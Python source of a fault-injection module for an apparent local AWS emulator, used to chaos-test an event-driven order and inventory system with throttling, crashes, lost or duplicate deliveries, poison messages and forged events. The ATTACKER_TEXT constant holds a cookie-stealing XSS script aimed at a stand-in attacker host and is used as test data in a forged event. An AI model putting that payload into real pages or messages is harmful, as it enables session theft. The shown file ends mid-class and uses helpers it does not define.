"""Fault injection at the AWS boundary: the functions' SDK calls and localcloud's delivery paths.

    with LocalCloud(faults=FaultPlan(seed=7, handler_exception=0.1, dynamodb_throttle=0.05)) as cloud:
        ...                         # faults are injected from the start
        cloud.faults.stop()         # ... until stopped; cloud.faults.stats counts what was injected

Handler code is never edited. Faults reach a function only through what it calls or receives:

- SDK calls (botocore event hooks, registered on every botocore session through `botocore.handlers.
  BUILTIN_HANDLERS`, in front of moto's own `before-send` stub). They act only while a function invoked by an
  event source mapping or asynchronously (a schedule) runs; synchronous invocations (HTTP API, `invoke`) are
  left alone unless `FaultPlan.include_sync`.
  * throttling (`ProvisionedThroughputExceededException` on DynamoDB, `ThrottlingException` on EventBridge), per
    request **attempt** (`before-send`): the SDK's own retry handler sees an HTTP 400 with that error code and
    retries it as it would on AWS, so most throttles are absorbed by the SDK and a few reach the handler (after
    the client's max attempts). With `throttle_scope="call"` the error is returned to the handler at once
    (`before-call`), bypassing the SDK's retries. The SDK's backoff sleeps are recorded, not slept (localcloud
    never waits: see docs/localcloud.md).
  * PutEvents entries failed individually: chosen entries are taken out of the request
    (`before-parameter-build`) and put back into the response as `InternalFailure` entries (`after-call`), so
    they never reach the bus and the caller sees a partial failure with `FailedEntryCount`.
- Invocations (`Runtime.invoke`):
  * handler exception: an `InjectedFault` (a RuntimeError) is raised from the invocation's k-th SDK call
    (k uniform in 1..3, before that call is made), so the calls before it took effect - a crash mid-way. A batch
    consumer (Powertools BatchProcessor) catches it per record, so it becomes a batch item failure of that
    record; elsewhere it is a function error. A handler that makes fewer than k calls completes, then the
    invocation fails anyway (a crash after the work, before the response): its response is discarded.
  * handler timeout: the same, with `InjectedTimeout` (a BaseException, which no handler code catches) and the
    invocation reported as Lambda reports a timeout (`Sandbox.Timedout`): the work done before the cut stays.
- Deliveries (the SQS event source mappings of the inboxes: a message is the bus's delivery to the inbox):
  * lost: a message is deleted before its first delivery, as if the bus had never delivered it;
  * duplicate: a second copy of the message is sent to the inbox;
  * delayed: the message is held back for 1..`max_delay_polls` polls of its mapping;
  * reordered: each batch is shuffled (and delays reorder across batches);
  * poison: on a fraction of polls a malformed message (not JSON, unknown detail-type, wrong schema_version,
    missing metadata) is sent to the inbox; the consumer rejects it until SQS moves it to the DLQ.
  Lost, duplicated and delayed are decided once per message, on its first receive; `FaultPlan.event_types` narrows
  them to deliveries of those detail-types (one event lost on its way to one consumer).

- Drift (the state itself goes wrong, not a delivery): what a restore, a consumer bug or a forged message leaves
  behind. Not decided on a delivery path: `FaultInjector.drift(cloud)` rolls each drift kind once per call (the
  chaos command calls it after every scenario operation, so the rates are per operation), and each kind is an
  explicit method too (`rollback_source`, `corrupt_projection`, `delete_projection`, `forge_event`,
  `inject_orphan_saga_event`), which tests and the state machine call at a moment of their choosing.
  * source rollback: a source item (any contract's entity: order, product, reservation, shipment) is put back to an
    earlier image of itself, as
    copying items back from a point-in-time restore does: a PutItem of the old image (its old version and
    `updated_at`) straight into the table. Earlier images are read from the tables' streams (NEW_AND_OLD_IMAGES);
  * projection corruption: a notifications projection item (availability, order outcome, order notification)
    rewritten with wrong data at its current version, as a consumer bug would;
  * projection deletion: such an item deleted;
  * forged event: a valid event (right `source` and producer for its type, it parses) with a huge version and
    made-up data, sent straight into an inbox queue (SendMessage), bypassing the bus and its rules;
  * orphan saga event: a saga event for an order that does not exist (OrderPlaced with real products into the
    inventory inbox; StockReserved / StockReservationFailed into the orders inbox).

Every fault kind draws from its own `random.Random(f"{seed}:{kind}")`, so a run is reproducible and enabling one
fault does not change where the others strike.
"""

from __future__ import annotations

import json
import random
import threading
import uuid
from collections import Counter
from collections.abc import Callable, Collection
from dataclasses import asdict, dataclass, field, replace
from typing import TYPE_CHECKING, Any, Literal

from converge.contracts import with_tables

if TYPE_CHECKING:
    from localcloud.cloud import LocalCloud

POISON_KINDS = ("not-json", "unknown-detail-type", "wrong-schema-version", "missing-metadata")
INJECTED_MESSAGE = "localcloud injected fault"

# Drift fault kind -> the counter of FaultInjector.stats (the chaos report's "injected" table) it raises.
DRIFT_STATS = {
    "source_rollback": "source_items_rolled_back",
    "projection_corruption": "projection_items_corrupted",
    "projection_deletion": "projection_items_deleted",
    "forged_event": "forged_events_injected",
    "orphan_saga_event": "orphan_saga_events_injected",
}
DRIFT_KINDS = tuple(DRIFT_STATS)
DRIFT_RATE = 0.01  # FaultPlan.chaos(drift=True): each drift kind on 1% of the scenario's operations
FORGED_KINDS = ("stock-updated-huge-version", "order-rejected-attacker-text", "stock-reserved-for-pending-order")
ORPHAN_KINDS = ("order-placed", "stock-reserved", "stock-reservation-failed")
FORGED_VERSION = 10**12  # far beyond any real entity version: a consumer applying it ignores every real event after
ATTACKER_TEXT = (
    "Your order was rejected. Claim your refund at https://refunds.attacker.invalid/?session="
    "<script>document.location='https://attacker.invalid/?c='+document.cookie</script>"
)


class InjectedFault(RuntimeError):
    """A handler exception injected by localcloud."""


class InjectedTimeout(BaseException):
    """A timeout injected by localcloud; a BaseException so that no handler code catches it."""


@dataclass(frozen=True)
class FaultPlan:
    """What to inject, at which rates (fractions in 0..1), reproducibly from `seed`."""

    seed: int = 0
    handler_exception: float = 0.0  # fraction of invocations that raise
    handler_timeout: float = 0.0  # fraction of invocations that time out
    dynamodb_throttle: float = 0.0  # fraction of DynamoDB request attempts throttled
    events_throttle: float = 0.0  # fraction of EventBridge request attempts throttled
    throttle_scope: Literal["attempt", "call"] = "attempt"
    put_events_entry_failure: float = 0.0  # fraction of PutEvents entries failed individually
    lost_delivery: float = 0.0  # fraction of inbox messages lost before their first delivery
    duplicate_delivery: float = 0.0  # fraction of inbox messages delivered twice
    delayed_delivery: float = 0.0  # fraction of inbox messages held back
    max_delay_polls: int = 5
    reorder: bool = False  # shuffle every inbox batch
    poison_rate: float = 0.0  # fraction of inbox polls that also get a poison message
    include_sync: bool = False  # also fault synchronous invocations (HTTP API, invoke)
    functions: tuple[str, ...] = ()  # only these functions' invocations and calls (empty: every function)
    event_types: tuple[str, ...] = ()  # delivery faults only on deliveries of these detail-types (empty: every one)
    # Drift: per call of FaultInjector.drift(cloud) (the chaos command: per scenario operation), not per function.
    source_rollback: float = 0.0  # a source item put back to an earlier image (a restore's copy-back)
    projection_corruption: float = 0.0  # a projection item rewritten with wrong data at its current version
    projection_deletion: float = 0.0  # a projection item deleted
    forged_event: float = 0.0  # a forged event (huge version, made-up data) sent straight into an inbox
    orphan_saga_event: float = 0.0  # a saga event of an order that does not exist sent into an inbox

    @property
    def drifts(self) -> bool:
        """Whether any drift fault is on (the chaos run then starts its passes with the full sweep)."""
        return any(getattr(self, kind) > 0 for kind in DRIFT_KINDS)

    def with_drift(self, rate: float = DRIFT_RATE) -> FaultPlan:
        """This plan plus every drift kind at `rate`."""
        return replace(
            self,
            source_rollback=rate,
            projection_corruption=rate,
            projection_deletion=rate,
            forged_event=rate,
            orphan_saga_event=rate,
        )

    @classmethod
    def chaos(cls, seed: int = 0, *, drift: bool = False) -> FaultPlan:
        """The chaos run's mix (issue 4): 10% handler exceptions, 5% throttling, 2% lost, 5% duplicates,
        reordering (5% delayed, every batch shuffled) and poison messages; with `drift`, every drift kind on 1% of
        the scenario's operations too (rollbacks, corrupted and deleted projections, forged and orphan events)."""
        plan = cls(
            seed=seed,
            handler_exception=0.10,
            dynamodb_throttle=0.05,
            events_throttle=0.05,
            put_events_entry_failure=0.05,
            lost_delivery=0.02,
            duplicate_delivery=0.05,
            delayed_delivery=0.05,
            reorder=True,
            poison_rate=0.01,
        )
        return plan.with_drift() if drift else plan

    def describe(self) -> dict[str, Any]:
        return {k: v for k, v in asdict(self).items() if v not in (0, 0.0, False, ())}


@dataclass
class _Invocation:
    function: str
    fault: str | None = None  # "exception" | "timeout"
    cut_at_call: int = 0
    calls: int = 0
    fired: bool = False
    targeted: bool = False
    failed_entries: list[int] = field(default_factory=list)
    sent_entries: list[dict[str, Any]] = field(default_factory=list)


@dataclass
class Held:
    """A message held back by a delay fault: invisible until `polls_left` polls of its mapping have passed."""

    receipt_handle: str
    polls_left: int


class FaultInjector:
    """Decides and counts the faults of one LocalCloud; inactive until started (LocalCloud starts it)."""

    def __init__(self, plan: FaultPlan | None = None) -> None:
        self.plan = plan or FaultPlan()
        self.active = False
        self.stats: Counter[str] = Counter()
        self.poison_bodies: dict[str, str] = {}  # body -> kind, for the checker's accounting
        self.sdk_backoff_seconds = 0.0
        self._rngs: dict[str, random.Random] = {}
        self._local = threading.local()
        self._seen_messages: set[str] = set()
        self.forged_bodies: dict[str, str] = {}  # body -> "forged:<kind>" / "orphan:<kind>", for the accounting
        self.drift_log: list[DriftFault] = []  # every drift fault, in order
        self._watches: dict[str, TableWatch] = {}
        # Called with (function, entries accepted by the bus) after every PutEvents of a function.
        self.published_listeners: list[Callable[[str, list[dict[str, Any]]], None]] = []

    # ------------------------------------------------------------------------------------------- lifecycle
    def start(self, plan: FaultPlan | None = None) -> None:
        if plan is not None:
            self.plan = plan
            self._rngs = {}
        self.active = True

    def stop(self) -> None:
        """Faults stop; what was already injected (held, duplicated, parked messages) stays in the system."""
        self.active = False

    def _rng(self, kind: str) -> random.Random:
        if kind not in self._rngs:
            self._rngs[kind] = random.Random(f"{self.plan.seed}:{kind}")
        return self._rngs[kind]

    def _roll(self, kind: str, rate: float) -> bool:
        return rate > 0 and self._rng(kind).random() < rate

    def _targets(self, function: str) -> bool:
        return not self.plan.functions or function in self.plan.functions

    # ------------------------------------------------------------------------------------------- invocations
    @property
    def current(self) -> _Invocation | None:
        return getattr(self._local, "invocation", None)

    def begin(self, function: str, source: str) -> None:
        """An invocation starts (Runtime.invoke); decide its fault. Every invocation is tracked (the ledger
        observes the events it puts on the bus); only targeted ones get faults."""
        state = _Invocation(function)
        state.targeted = self.active and self._targets(function) and (source != "sync" or self.plan.include_sync)
        if state.targeted:
            if self._roll("exception", self.plan.handler_exception):
                state.fault = "exception"
            elif self._roll("timeout", self.plan.handler_timeout):
                state.fault = "timeout"
            if state.fault:
                state.cut_at_call = self._rng("cut").randint(1, 3)
        self._local.invocation = state

    def end(self) -> BaseException | None:
        """The handler returned: the fault it still owes (it made fewer calls than the cut), if any."""
        state = self.current
        self._local.invocation = None
        if state is None or state.fault is None or state.fired:
            return None
        return self._raise(state, after_work=True)

    def _raise(self, state: _Invocation, after_work: bool) -> BaseException:
        state.fired = True
        where = "after the handler's work" if after_work else f"at SDK call {state.calls}"
        self.stats[f"handler_{state.fault}"] += 1
        message = f"{INJECTED_MESSAGE}: {state.fault} {where}"
        return InjectedTimeout(message) if state.fault == "timeout" else InjectedFault(message)

    # ------------------------------------------------------------------------------------------- SDK hooks
    def before_call(self, event_name: str, **kwargs: Any) -> Any:
        state = self.current
        if state is None or not state.targeted:
            return None
        state.calls += 1
        if state.fault and not state.fired and state.calls >= state.cut_at_call:
            raise self._raise(state, after_work=False)
        if self.plan.throttle_scope == "call":
            error = self._throttle(event_name)
            if error is not None:
                from botocore.awsrequest import AWSResponse, HTTPHeaders

                code, message = error
                http = AWSResponse("https://localcloud.invalid", 400, HTTPHeaders(), None)
                return http, {"Error": {"Code": code, "Message": message}, "ResponseMetadata": {"HTTPStatusCode": 400}}
        return None

    def before_send(self, event_name: str, **kwargs: Any) -> Any:
        state = self.current
        if state is None or not state.targeted or self.plan.throttle_scope != "attempt":
            return None
        error = self._throttle(event_name)
        if error is None:
            return None
        from botocore.awsrequest import AWSResponse, HTTPHeaders

        code, message = error
        body = json.dumps({"__type": code, "message": message}).encode()
        headers = HTTPHeaders()
        headers["x-amzn-ErrorType"] = code
        return AWSResponse("https://localcloud.invalid", 400, headers, _Raw(body))

    def _throttle(self, event_name: str) -> tuple[str, str] | None:
        service = event_name.split(".")[1] if event_name.count(".") >= 1 else ""
        if service == "dynamodb" and self._roll("dynamodb_throttle", self.plan.dynamodb_throttle):
            self.stats["dynamodb_throttled_attempts"] += 1
            return "ProvisionedThroughputExceededException", "Throughput exceeds the table's limit (localcloud)"
        if service == "eventbridge" and self._roll("events_throttle", self.plan.events_throttle):
            self.stats["events_throttled_attempts"] += 1
            return "ThrottlingException", "Rate exceeded (localcloud)"
        return None

    def before_put_events(self, params: dict[str, Any], **kwargs: Any) -> None:
        state = self.current
        if state is None:
            return
        state.failed_entries = []
        entries = params.get("Entries")
        if not isinstance(entries, list):
            return
        failing: list[int] = []
        if state.targeted and self.plan.put_events_entry_failure:
            rate = self.plan.put_events_entry_failure
            failing = [i for i in range(len(entries)) if self._roll("entry_failure", rate)]
            if len(failing) == len(entries):
                failing = failing[1:]  # PutEvents needs one entry: the first one goes through
        state.failed_entries = failing
        params["Entries"] = state.sent_entries = [e for i, e in enumerate(entries) if i not in set(failing)]

    def after_put_events(self, parsed: dict[str, Any], **kwargs: Any) -> None:
        state = self.current
        if state is None or "Entries" not in parsed:
            return
        accepted = [
            entry for entry, result in zip(state.sent_entries, parsed["Entries"], strict=False) if "EventId" in result
        ]
        for listener in self.published_listeners:
            listener(state.function, accepted)
        if not state.failed_entries:
            return
        results = list(parsed["Entries"])
        for index in state.failed_entries:
            results.insert(index, {"ErrorCode": "InternalFailure", "ErrorMessage": f"{INJECTED_MESSAGE} (entry)"})
        parsed["Entries"] = results
        parsed["FailedEntryCount"] = int(parsed.get("FailedEntryCount", 0)) + len(state.failed_entries)
        self.stats["put_events_entries_failed"] += len(state.failed_entries)
        state.failed_entries = []

    def backoff(self, seconds: float) -> None:
        """The SDK's retry backoff while faults are injected: counted, not slept."""
        self.sdk_backoff_seconds += seconds
        self.stats["sdk_retries"] += 1

    # ------------------------------------------------------------------------------------------- deliveries
    def delivery_faults(self, message: dict[str, Any], function: str) -> str | None:
        """For a message received from the inbox of `function`: "lost", "duplicate", "delayed" or None (decided
        once per message)."""
        if not self.active or not self._targets(function):
            return None
        if self.plan.event_types and _detail_type(message["Body"]) not in self.plan.event_types:
            return None
        message_id = message["MessageId"]
        if message_id in self._seen_messages:
            return None
        self._seen_messages.add(message_id)
        if self._roll("lost", self.plan.lost_delivery):
            self.stats["deliveries_lost"] += 1
            return "lost"
        if self._roll("duplicate", self.plan.duplicate_delivery):
            self.stats["deliveries_duplicated"] += 1
            return "duplicate"
        if self._roll("delayed", self.plan.delayed_delivery):
            self.stats["deliveries_delayed"] += 1
            return "delayed"
        return None

    def delay_polls(self) -> int:
        return self._rng("delay_polls").randint(1, max(1, self.plan.max_delay_polls))

    def shuffle(self, messages: list[dict[str, Any]], function: str) -> None:
        if self.active and self._targets(function) and self.plan.reorder and len(messages) > 1:
            before = [m["MessageId"] for m in messages]
            self._rng("reorder").shuffle(messages)
            if [m["MessageId"] for m in messages] != before:
                self.stats["batches_reordered"] += 1

    def poison(self, function: str) -> str | None:
        """The body of a poison message to send to the inbox of `function` on this poll, or None."""
        if not self.active or not self._targets(function) or not self._roll("poison", self.plan.poison_rate):
            return None
        number = self.stats["poison_injected"] + 1
        kind = POISON_KINDS[(number - 1) % len(POISON_KINDS)]
        body = poison_body(kind, number)
        self.stats["poison_injected"] += 1
        self.poison_bodies[body] = kind
        return body

    # ------------------------------------------------------------------------------------------- drift
    def drift(self, cloud: LocalCloud) -> list[DriftFault]:
        """One roll per drift kind at its plan rate; the faults injected (none once faults are stopped).

        The chaos command calls this after every scenario operation, so the rates are fractions of operations."""
        if not self.active:
            return []
        inject: dict[str, Callable[[LocalCloud], DriftFault | None]] = {
            "source_rollback": self.rollback_source,
            "projection_corruption": self.corrupt_projection,
            "projection_deletion": self.delete_projection,
            "forged_event": self.forge_event,
            "orphan_saga_event": self.inject_orphan_saga_event,
        }
        injected = []
        for kind in DRIFT_KINDS:
            if self._roll(kind, getattr(self.plan, kind)):
                fault = inject[kind](cloud)
                if fault is not None:
                    injected.append(fault)
        return injected

    def watch(self, cloud: LocalCloud, table: str) -> TableWatch | None:
        """What the stream of `table` (a logical id) showed so far, brought up to date; None if the template has no
        such table."""
        if table not in cloud.deployment.physical:
            return None
        if table not in self._watches:
            self._watches[table] = TableWatch(table, keep_earlier=table in SOURCE_TABLES)
        watch = self._watches[table]
        watch.refresh(cloud)
        return watch

    def _record(self, fault: DriftFault) -> DriftFault:
        self.stats[DRIFT_STATS[fault.kind]] += 1
        self.drift_log.append(fault)
        return fault

    def rollback_source(
        self, cloud: LocalCloud, rng: random.Random | None = None, *, entity_ids: Collection[str] | None = None
    ) -> DriftFault | None:
        """Put a source item back to an earlier image of itself (PutItem of the old image, old version and
        `updated_at` included), as copying items back from a point-in-time restore does. Only items that had an
        earlier version qualify; `entity_ids` narrows the choice to those orders and products. None if none."""
        rng = rng or self._rng("source_rollback")
        candidates = self.rollback_keys(cloud, entity_ids)
        rng.shuffle(candidates)
        for table, key in candidates:
            current = _get(cloud, table, key)
            if current is None:
                continue
            version = _version(current)
            earlier = sorted(v for v in self._watches[table].earlier[key] if v < version)
            if not earlier:
                continue
            image = self._watches[table].earlier[key][rng.choice(earlier)]
            cloud.clients.dynamodb.put_item(TableName=cloud.table_name(table), Item=image)
            variant = key[0].split("#")[0].lower()
            fault = DriftFault(
                "source_rollback", variant, table, _source_entity(key), key, _plain(current), _plain(image)
            )
            return self._record(fault)
        return None

    def rollback_keys(
        self, cloud: LocalCloud, entity_ids: Collection[str] | None = None
    ) -> list[tuple[str, tuple[str, str]]]:
        """(table, key) of every source item (of `entity_ids`) the stream showed at an earlier version than its
        current one: what `rollback_source` may choose from."""
        candidates: list[tuple[str, tuple[str, str]]] = []
        for table in SOURCE_TABLES:
            watch = self.watch(cloud, table)
            if watch is None:
                continue
            candidates += [
                (table, key)
                for key, images in watch.earlier.items()
                if key in watch.latest
                and min(images) < _version(watch.latest[key])
                and _selected(_source_entity(key), entity_ids)
            ]
        return candidates

    def projection_keys(self, cloud: LocalCloud, entity_ids: Collection[str] | None = None) -> list[tuple[str, str]]:
        """Keys of the projection items (of `entity_ids`) that exist: what `corrupt_projection` and
        `delete_projection` may choose from."""
        watch = self.watch(cloud, PROJECTION_TABLE)
        if watch is None:
            return []
        return [
            key
            for key in watch.latest
            if _projection_kind(key) is not None and _selected(_projection_entity(key), entity_ids)
        ]

    def corrupt_projection(
        self, cloud: LocalCloud, rng: random.Random | None = None, *, entity_ids: Collection[str] | None = None
    ) -> DriftFault | None:
        """Rewrite a projection item with wrong data at its current version, as a consumer bug would: availability
        numbers changed, an order outcome's status changed, an order notification's reason (rejected) or order id
        (confirmed) changed. None if no projection item exists (of `entity_ids`)."""
        rng = rng or self._rng("projection_corruption")
        candidates = self.projection_keys(cloud, entity_ids)
        rng.shuffle(candidates)
        for key in candidates:
            current = _get(cloud, PROJECTION_TABLE, key)
            if current is None:
                continue
            before = _plain(current)
            kind = _projection_kind(key)
            wrong = dict(before)
            if kind == "availability":
                wrong["on_hand"] = int(before["on_hand"]) + rng.randint(1, 5)
                wrong["available"] = wrong["on_hand"] - int(before["reserved"])
            elif kind == "order_outcome":
                wrong["status"] = rng.choice(
                    [s for s in ("CONFIRMED", "REJECTED", "CANCELLED") if s != before["status"]]
                )
            elif key[1].startswith("NOTIFICATION#ORDER_REJECTED#"):
                wrong["reason"] = f"{before.get('reason') or ''} (corrupted by a consumer bug #{rng.randint(1, 999)})"
            else:
                wrong["order_id"] = f"{before.get('order_id', 'order')}-corrupted"
            cloud.clients.dynamodb.put_item(TableName=cloud.table_name(PROJECTION_TABLE), Item=_typed(wrong))
            entity = _projection_entity(key)
            return self._record(
                DriftFault("projection_corruption", str(kind), PROJECTION_TABLE, entity, key, before, wrong)
            )
        return None

    def delete_projection(
        self, cloud: LocalCloud, rng: random.Random | None = None, *, entity_ids: Collection[str] | None = None
    ) -> DriftFault | None:
        """Delete a projection item (availability, order outcome or order notification). None if there is none."""
        rng = rng or self._rng("projection_deletion")
        candidates = self.projection_keys(cloud, entity_ids)
        rng.shuffle(candidates)
        for key in candidates:
            current = _get(cloud, PROJECTION_TABLE, key)
            if current is None:
                continue
            cloud.clients.dynamodb.delete_item(TableName=cloud.table_name(PROJECTION_TABLE), Key=_typed_key(key))
            kind, entity = str(_projection_kind(key)), _projection_entity(key)
            fault = DriftFault("projection_deletion", kind, PROJECTION_TABLE, entity, key, _plain(current), None)
            return self._record(fault)
        return None

    def _pick(
        self,
        cloud: LocalCloud,
        rng: random.Random,
        table: str,
        prefix: str,
        entity_ids: Collection[str] | None,
        status: str | None = None,
    ) -> dict[str, Any] | None:
        """A current item (plain) of `table` whose pk starts with `prefix` (and of `status`), as the stream showed
        it; None if there is none."""
        watch = self.watch(cloud, table)
        if watch is None:
            return None
        images = [
            image
            for key, image in watch.latest.items()
            if key[0].startswith(prefix)
            and _selected(key[0].removeprefix(prefix), entity_ids)
            and (status is None or image.get("status", {}).get("S") == status)
        ]
        return _plain(rng.choice(images)) if images else None

    def _forged(
        self, cloud: LocalCloud, rng: random.Random, kind: str, entity_ids: Collection[str] | None
    ) -> tuple[str, dict[str, Any]] | None:
        """(inbox, entity state) of a forged event of `kind`, or None if no entity of that kind exists."""
        if kind == "stock-updated-huge-version":
            product = self._pick(cloud, rng, "InventoryTable", "PRODUCT#", entity_ids)
            if product is None:
                return None
            on_hand = rng.randint(0, 1000)
            reserved = rng.randint(0, on_hand)
            numbers = {"on_hand": on_hand, "reserved": reserved, "available": on_hand - reserved}
            return "NotificationsInbox", {"product_id": product["product_id"], **numbers, "event_type": "StockUpdated"}
        if kind == "order-rejected-attacker-text":
            order = self._pick(cloud, rng, "OrdersTable", "ORDER#", entity_ids)
            if order is None:
                return None
            # The order's own fields as its table holds them: a priced order (schema v2) carries its currency.
            fields = ("order_id", "customer_id", "lines", "currency")
            state: dict[str, Any] = {k: order[k] for k in fields if k in order}
            return "NotificationsInbox", state | {
                "status": "REJECTED",
                "reason": ATTACKER_TEXT,
                "event_type": "OrderRejected",
            }
        if kind == "stock-reserved-for-pending-order":
            order = self._pick(cloud, rng, "OrdersTable", "ORDER#", entity_ids, status="PENDING")
            if order is None:
                return None
            # A reservation names quantities, not the order's prices.
            lines = [{"product_id": line["product_id"], "quantity": line["quantity"]} for line in order["lines"]]
            state = {"order_id": order["order_id"], "lines": lines, "status": "RESERVED"}
            return "OrdersInbox", state | {"event_type": "StockReserved"}
        raise ValueError(f"unknown forged event kind {kind!r}; known: {FORGED_KINDS}")

    def forge_event(
        self,
        cloud: LocalCloud,
        rng: random.Random | None = None,
        *,
        kind: str | None = None,
        entity_ids: Collection[str] | None = None,
    ) -> DriftFault | None:
        """Send a forged event straight into an inbox (SendMessage, bypassing the bus): valid per the contract, with
        the right `source` for its type, a huge version and made-up data. Kinds (`FORGED_KINDS`, in turn unless
        `kind`): StockUpdated of a real product into the notifications inbox; OrderRejected of a real order with
        an attacker's text as its reason, into the notifications inbox; StockReserved of a PENDING order into the
        orders inbox. A kind that has no entity to name is skipped for the next one; None if none has."""
        rng = rng or self._rng("forged_event")
        number = self.stats[DRIFT_STATS["forged_event"]] + 1
        start = (number - 1) % len(FORGED_KINDS)
        kinds = [kind] if kind else [FORGED_KINDS[(start + i) % len(FORGED_KINDS)] for i in range(len(FORGED_KINDS))]
        at = cloud.clock.now_datetime().isoformat()
        stamp = {"version": FORGED_VERSION + number, "correlation_id": f"localcloud-forged-{number}", "updated_at": at}
        for chosen in kinds:
            forged = self._forged(cloud, rng, chosen, entity_ids)
            if forged is not None:
                queue, state = forged
                return self._send_event(cloud, rng, "forged_event", chosen, queue, state | stamp)
        return None

    def inject_orphan_saga_event(
        self,
        cloud: LocalCloud,
        rng: random.Random | None = None,
        *,
        kind: str | None = None,
        entity_ids: Collection[str] | None = None,
    ) -> DriftFault | None:
        """Send a saga event of an order that does not exist (a fresh order id, real product ids) straight into an
        inbox. Kinds (`ORPHAN_KINDS`, in turn unless `kind`): OrderPlaced into the inventory inbox (it reserves
        stock); StockReserved and StockReservationFailed into the orders inbox. None if no product exists."""
        rng = rng or self._rng("orphan_saga_event")
        watch = self.watch(cloud, "InventoryTable")
        products = [
            key[0].removeprefix("PRODUCT#")
            for key in (watch.latest if watch else {})
            if key[0].startswith("PRODUCT#") and _selected(key[0].removeprefix("PRODUCT#"), entity_ids)
        ]
        if not products:
            return None
        number = self.stats[DRIFT_STATS["orphan_saga_event"]] + 1
        chosen = kind or ORPHAN_KINDS[(number - 1) % len(ORPHAN_KINDS)]
        order_id = str(uuid.UUID(int=rng.getrandbits(128), version=4))
        picked = rng.sample(sorted(products), k=min(len(products), rng.randint(1, 2)))
        lines = [{"product_id": p, "quantity": rng.randint(1, 3)} for p in picked]
        at = cloud.clock.now_datetime().isoformat()
        item: dict[str, Any] = {"order_id": order_id, "lines": lines, "version": 1, "updated_at": at}
        item["correlation_id"] = f"localcloud-orphan-{number}"
        if chosen == "order-placed":
            item |= {"customer_id": f"orphan-customer-{number}", "status": "PENDING", "event_type": "OrderPlaced"}
            queue = "InventoryInbox"
        elif chosen == "stock-reserved":
            item |= {"status": "RESERVED", "event_type": "StockReserved"}
            queue = "OrdersInbox"
        elif chosen == "stock-reservation-failed":
            item |= {"status": "FAILED", "reason": "insufficient stock", "shortages": picked[:1]}
            item["event_type"] = "StockReservationFailed"
            queue = "OrdersInbox"
        else:
            raise ValueError(f"unknown orphan saga event kind {chosen!r}; known: {ORPHAN_KINDS}")
        return self._send_event(cloud, rng, "orphan_saga_event", chosen, queue, item)

    def _send_event(
        self, cloud: LocalCloud, rng: random.Random, fault: str, kind: str, queue: str, item: dict[str, Any]
    ) -> DriftFault | None:
        """Send the event `item` represents (an entity item's state, as the publisher builds events) to `queue`,
        shaped as the inbox rule delivers it; the message must parse (else it would be poison, not a forgery)."""
        if queue not in cloud.deployment.physical:
            return None
        body = eventbridge_body(item, str(uuid.UUID(int=rng.getrandbits(128), version=4)))
        cloud.clients.sqs.send_message(QueueUrl=cloud.queue_url(queue), MessageBody=body)
        self.forged_bodies[body] = f"{'forged' if fault == 'forged_event' else 'orphan'}:{kind}"
        entity_id = str(item.get("product_id") or item["order_id"])
        return self._record(DriftFault(fault, kind, queue, entity_id, after=item, body=body))


def poison_body(kind: str, number: int) -> str:
    """A malformed inbox message of `kind`; `number` makes each body unique (the checker finds it in a DLQ)."""
    if kind == "not-json":
        return f"localcloud poison #{number}: not JSON {{"
    envelope: dict[str, Any] = {
        "version": "0",
        "id": f"localcloud-poison-{number}",
        "detail-type": "OrderPlaced",
        "source": "converge.orders",
        "account": "123456789012",
        "time": "2026-01-01T00:00:00Z",
        "region": "us-east-1",
        "resources": [],
        "detail": {
            "metadata": {
                "event_id": f"localcloud-poison-{number}",
                "event_type": "OrderPlaced",
                "schema_version": 1,
                "entity": "order",
                "entity_id": f"poison-{number}",
                "entity_version": 1,
                "correlation_id": f"poison-{number}",
                "occurred_at": "2026-01-01T00:00:00Z",
                "producer": "orders",
            },
            "data": {},
        },
    }
    if kind == "unknown-detail-type":
        envelope["detail-type"] = envelope["detail"]["metadata"]["event_type"] = "LocalcloudPoisonHappened"
    elif kind == "wrong-schema-version":
        envelope["detail"]["metadata"]["schema_version"] = 99
    elif kind == "missing-metadata":
        del envelope["detail"]["metadata"]
    return json.dumps(envelope)


# ------------------------------------------------------------------------------------------------ drift plumbing
# The sources of truth (every service contract's entity layouts): table -> the pk prefixes of its entities.
SOURCE_TABLES = {str(s.table): tuple(layout.prefix for layout in s.layouts) for s in with_tables() if s.layouts}
PROJECTION_TABLE = "NotificationsTable"
MAX_EARLIER_IMAGES = 8  # per source item: enough choice for a rollback without keeping every image of a long run


@dataclass
class DriftFault:
    """One drift fault as injected: what it changed, for tests, the state machine and the report."""

    kind: str  # one of DRIFT_KINDS
    variant: str  # the item's kind (order, product, reservation, availability, ...) or the event's (FORGED_KINDS...)
    where: str  # the table or inbox queue (logical id)
    entity_id: str  # the order or product it concerns
    key: tuple[str, str] | None = None  # the item's (pk, sk), for a table fault
    before: dict[str, Any] | None = None  # the item before (plain values)
    after: dict[str, Any] | None = None  # the item written (None: deleted), or the state the sent event carries
    body: str | None = None  # the message sent, for an event fault

    def describe(self) -> str:
        where = f"{self.where} {self.key[0]}/{self.key[1]}" if self.key else self.where
        return f"{self.kind} ({self.variant}) of {self.entity_id} in {where}"


class TableWatch:
    """What a table's stream (NEW_AND_OLD_IMAGES) showed: each item's current image and, for source tables, its
    earlier images by version - the copies a point-in-time restore would bring back. Read incrementally, a fresh
    iterator per read (as localcloud/streams.py reads, for the same reason); images are DynamoDB JSON, ready for
    PutItem."""

    def __init__(self, table: str, *, keep_earlier: bool) -> None:
        self.table = table
        self.keep_earlier = keep_earlier
        self.latest: dict[tuple[str, str], dict[str, Any]] = {}
        self.earlier: dict[tuple[str, str], dict[int, dict[str, Any]]] = {}
        self._positions: dict[str, str | None] = {}  # shard id -> last sequence number read
        self._stream_arn: str | None = None

    def refresh(self, cloud: LocalCloud) -> None:
        streams = cloud.clients.dynamodbstreams
        if self._stream_arn is None:
            table = cloud.clients.dynamodb.describe_table(TableName=cloud.table_name(self.table))["Table"]
            self._stream_arn = table.get("LatestStreamArn")
            if self._stream_arn is None:
                return
        for shard in streams.describe_stream(StreamArn=self._stream_arn)["StreamDescription"].get("Shards", []):
            shard_id = shard["ShardId"]
            last = self._positions.get(shard_id)
            position: dict[str, Any] = (
                {"ShardIteratorType": "TRIM_HORIZON"}
                if last is None
                else {"ShardIteratorType": "AFTER_SEQUENCE_NUMBER", "SequenceNumber": last}
            )
            iterator = streams.get_shard_iterator(StreamArn=self._stream_arn, ShardId=shard_id, **position)
            cursor = iterator["ShardIterator"]
            while cursor:
                response = streams.get_records(ShardIterator=cursor, Limit=1000)
                records = response.get("Records", [])
                if not records:
                    break
                for record in records:
                    self._see(record["dynamodb"])
                    self._positions[shard_id] = record["dynamodb"]["SequenceNumber"]
                cursor = response.get("NextShardIterator")

